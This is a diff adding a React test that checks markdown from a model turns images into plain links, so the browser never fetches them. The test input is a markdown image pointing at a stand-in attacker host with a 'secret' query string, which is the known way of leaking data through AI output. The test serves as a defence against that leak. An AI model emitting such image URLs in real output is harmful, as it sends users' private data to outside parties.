@@ -141,3 +141,15 @@ describe("headings in model output", () => {
     expect(levels).toEqual(["H2:Part 1", "H2:Borrowing", "H3:Detail", "H3:Key points", "H4:Deep", "H5:Being written"]);
   });
 });
+
+describe("markdown from a model", () => {
+  it("shows an image as a link the reader may follow, never as an image the browser fetches", () => {
+    const { container } = render(
+      <Blocks blocks={[{ type: "markdown", markdown: "See ![the diagram](https://attacker.example/x.png?q=secret)" }]} />,
+    );
+    expect(container.querySelector("img")).toBeNull();
+    const link = screen.getByRole("link", { name: "[image: the diagram]" });
+    expect(link).toHaveAttribute("href", "https://attacker.example/x.png?q=secret");
+    expect(link).toHaveAttribute("rel", "noopener noreferrer nofollow");
+  });
+});
